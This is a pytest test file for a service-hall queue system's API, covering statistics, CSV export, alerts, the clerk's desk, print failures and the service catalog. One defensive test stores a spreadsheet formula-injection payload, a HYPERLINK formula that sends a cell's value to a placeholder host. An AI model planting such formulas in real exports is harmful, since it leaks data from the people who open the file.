"""Statistics (JSON and CSV), the manager's alerts, the clerk's desk and the hall's acceptance
catalog through the API; on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

import pytest

pytest_plugins = ["test_api_support"]  # the api and api_server fixtures


def a_morning(api) -> None:
    """Two tax tickets: A001 waits 2 minutes and is served for 5; A002 is a no-show."""
    api.issue("tax")
    api.issue("tax")
    api.open(1)
    api.clock.advance(minutes=2)
    api.act(1, "call-next", who="clerk1")
    api.act(1, "start", who="clerk1")
    api.clock.advance(minutes=5)
    api.act(1, "call-next", who="clerk1")
    api.act(1, "recall", who="clerk1")
    api.act(1, "recall", who="clerk1")
    api.act(1, "no-show", who="clerk1")


def test_statistics_of_the_day(api):
    a_morning(api)
    body = api.ok("GET", "halls/main/stats", "manager")
    assert (body["hall"], body["from"], body["to"]) == ("main", "2026-11-25", "2026-11-25")
    totals = body["totals"]
    assert (totals["issued"], totals["called"], totals["served"], totals["no_shows"]) == (
        2,
        2,
        1,
        1,
    )
    assert totals["avg_service_seconds"] == 300
    assert set(body["by"]) == {"service", "window", "clerk", "day", "hour"}
    [tax] = [r for r in body["by"]["service"] if r["key"] == "tax"]
    assert tax["issued"] == 2 and tax["label"] == "税务综合"
    assert [r["key"] for r in body["by"]["clerk"]] == ["clerk1"]
    for who in ("supervisor", "admin"):
        assert api.get("halls/main/stats", who).status_code == 200
    empty = api.ok("GET", "halls/main/stats?from=2026-11-20&to=2026-11-24", "manager")
    assert empty["totals"]["issued"] == 0


def test_statistics_as_csv_for_excel(api):
    a_morning(api)
    resp = api.get("halls/main/stats.csv?by=window", "manager")
    assert resp.status_code == 200
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"] == (
        'attachment; filename="onewindow-main-2026-11-25-2026-11-25-window.csv"'
    )
    text = resp.get_data(as_text=True)
    assert text.startswith("\ufeff")  # Excel needs the BOM for the Chinese headers
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[0][:4] == ["窗口", "取号数", "叫号数", "办结数"]
    assert rows[1][0] == "1号 税务综合窗口" and rows[-1][0] == "合计"
    assert rows[-1][1] == "2"
    for by in ("service", "clerk", "day", "hour"):
        assert api.get(f"halls/main/stats.csv?by={by}", "supervisor").status_code == 200


def test_windows_of_the_same_name_are_told_apart(api):
    """Ten windows may be called 无差别综合窗口: rows carry the window's number too."""
    for n in (1, 2):
        api.issue("tax")
        api.open(n)
        api.act(n, "call-next")
        api.act(n, "complete")
    rows = api.ok("GET", "halls/main/stats", "manager")["by"]["window"]
    assert [(r["key"], r["label"]) for r in rows] == [
        (1, "1号 税务综合窗口"),
        (2, "2号 税务综合窗口"),
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_never_starts_a_formula(start):
    from queue_server.api.stats import safe_text

    assert safe_text(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert safe_text("税务综合窗口") == "税务综合窗口" and safe_text(-1) == -1


def test_csv_of_names_a_spreadsheet_would_run(api):
    """A temporary window named like a formula and a clerk whose name starts with @: the CSV
    holds them as text that Excel shows and never runs."""
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
    api.ok(
        "POST",
        "halls/main/layout",
        "manager",
        json={"ops": [{"op": "add_window", "number": 8, "name": evil, "services": ["tax"]}]},
    )
    api.create_user("@risky", "clerk", ["main"])
    token = api.login("@risky", "main", 8)
    api.issue("tax")
    api.ok("POST", "windows/main-8/open", headers={"Authorization": f"Bearer {token}"})
    api.ok("POST", "windows/main-8/call-next", headers={"Authorization": f"Bearer {token}"})
    cells = {}
    for by in ("window", "clerk"):
        text = api.get(f"halls/main/stats.csv?by={by}", "manager").get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text[1:])))
        cells[by] = rows[1][0]
        assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@")], rows
    assert cells == {"window": f"8号 {evil}", "clerk": "'@risky"}


@pytest.mark.parametrize(
    ("query", "needle"),
    [
        ("from=2026-11-26&to=2026-11-25", "ends before it begins"),
        ("from=2025-01-01&to=2026-11-25", "at most 366 days"),
        ("from=yesterday", "from"),
        ("bogus=1", "bogus"),
    ],
)
def test_statistics_period_errors(api, query, needle):
    api.error(api.get(f"halls/main/stats?{query}", "manager"), 400, "invalid_request", needle)
    api.error(api.get(f"halls/main/stats.csv?{query}", "manager"), 400, "invalid_request", needle)


def test_who_may_read_statistics(api):
    for path in ("halls/main/stats", "halls/main/stats.csv"):
        api.error(api.get(path), 401, "unauthorized")
        for who in ("clerk1", "kiosk", "board", "backoffice"):
            api.error(api.get(path, who), 403, "forbidden", "manager or supervisor")
        api.error(api.get(path, "branch_manager"), 403, "forbidden", "main")
    api.error(api.get("halls/main/stats.csv?by=month", "manager"), 400, "invalid_request", "by")
    api.error(api.get("halls/nope/stats", "admin"), 404, "not_found", "nope")


def test_alerts_suggest_windows(api):
    api.open(1)
    for _ in range(4):
        api.issue("tax")
    api.clock.advance(minutes=40)
    body = api.ok("GET", "halls/main/alerts", "manager")
    assert body["hall"] == "main"
    tax = next(s for s in body["services"] if s["code"] == "tax")
    assert (tax["waiting"], tax["longest_wait_seconds"], tax["arrivals_last_hour"]) == (4, 2400, 4)
    assert tax["open_windows"] == 1 and tax["wait_alert_minutes"] == 30
    assert tax["alerts"], tax  # waited longer than the 30 minutes of the alert
    strict = api.ok("GET", "halls/main/alerts?target_minutes=5", "manager")
    tax = next(s for s in strict["services"] if s["code"] == "tax")
    assert tax["target_minutes"] == 5 and tax["suggested_windows"] >= 2
    api.error(
        api.get("halls/main/alerts?target_minutes=0", "manager"),
        400,
        "invalid_request",
        "target_minutes",
    )
    api.error(api.get("halls/main/alerts"), 401, "unauthorized")
    api.error(api.get("halls/main/alerts", "kiosk_branch"), 403, "forbidden", "main")
    api.error(api.get("halls/nope/alerts", "admin"), 404, "not_found", "nope")


def test_the_clerks_desk(api):
    a_morning(api)
    api.issue("invoice")
    desk = api.ok("GET", "halls/main/windows/1/desk", "clerk1")
    assert (desk["hall"], desk["day"]) == ("main", "2026-11-25")
    assert desk["window"]["number"] == 1 and desk["window"]["clerk"] == "clerk1"
    assert [(q["code"], q["waiting"]) for q in desk["queues"]] == [("tax", 0), ("invoice", 1)]
    assert desk["suspended"] == []
    assert desk["today"]["clerk_name"] == "clerk1"
    assert desk["today"]["window"]["served"] == 1
    assert desk["today"]["clerk"]["served"] == 1
    # "my day" is the signed-in person's, not that of the clerk the window records
    day = api.ok("GET", "halls/main/windows/1/desk", "manager")["today"]
    assert (day["clerk_name"], day["clerk"], day["window"]["served"]) == ("manager", None, 1)
    api.act(1, "call-next", who="clerk1")
    api.act(1, "start", who="clerk1")
    api.act(1, "suspend", who="clerk1", json={"reason": "复印"})
    desk = api.ok("GET", "halls/main/windows/1/desk", "clerk1")
    assert [t["number"] for t in desk["suspended"]] == ["B001"]
    assert api.get("halls/main/windows/1/desk", "manager").status_code == 200
    api.error(api.get("halls/main/windows/2/desk", "clerk1"), 403, "forbidden", "window 1")
    api.error(api.get("halls/main/windows/1/desk"), 401, "unauthorized")
    api.error(api.get("halls/main/windows/7/desk", "manager"), 404, "not_found", "no window 7")
    api.error(api.get("halls/nope/windows/1/desk", "admin"), 404, "not_found", "nope")


def test_print_failures_stay_listed_until_printed_again(api):
    first, second = api.issue("tax"), api.issue("tax")
    api.ok("POST", f"tickets/{first['id']}/print-failed", "kiosk", json={"reason": "缺纸"})
    api.clock.advance(minutes=1)
    api.ok("POST", f"tickets/{second['id']}/print-failed", "kiosk", json={"attempts": 3})

    def listed(who: str = "manager") -> list[tuple]:
        body = api.ok("GET", "halls/main/print-failures", who)
        assert (body["hall"], body["day"]) == ("main", "2026-11-25")
        return [
            (f["ticket"]["number"], f["device"], f["reason"], f["attempts"], f["reprint"])
            for f in body["print_failures"]
        ]

    assert listed() == [("A001", "kiosk", "缺纸", 1, None), ("A002", "kiosk", "", 3, None)]
    api.ok("POST", f"tickets/{first['id']}/reprint", "manager", json={})
    [(number, *_, reprint), _] = listed("supervisor")
    assert number == "A001" and (reprint["device"], reprint["by"]) == ("kiosk", "manager")
    api.ok("POST", f"tickets/{first['id']}/reprinted", "kiosk", json={"requested_by": "manager"})
    assert [row[0] for row in listed()] == ["A002"]
    api.ok("POST", f"tickets/{second['id']}/cancel", "manager", json={})
    assert listed() == []  # a closed ticket needs no slip
    api.error(api.get("halls/main/print-failures", "kiosk"), 403, "forbidden")
    api.error(api.get("halls/main/print-failures"), 401, "unauthorized")


def test_the_acceptance_catalog_is_public(api):
    body = api.ok("GET", "halls/main/catalog")
    assert body["hall"] == "main"
    tax = body["services"][0]
    assert (tax["code"], tax["prefix"], tax["domain"]) == ("tax", "A", "tax")
    [item] = tax["items"]
    assert (item["code"], item["name"], item["kind_label"]) == (
        "000000000001",
        "增值税发票领用",
        "即办件",
    )
    assert item["department"] == {"code": "tax-bureau", "name": "县税务局"}
    [material] = item["materials"]
    assert material["name"] == "经办人身份证件"
    assert (material["necessity_label"], material["original_label"]) == ("必要", "原件")
    assert material["standard"] == "在有效期内"
    assert [s["items"] for s in body["services"][1:]] == [[], [], []]
    api.error(api.get("halls/nope/catalog"), 404, "not_found", "nope")
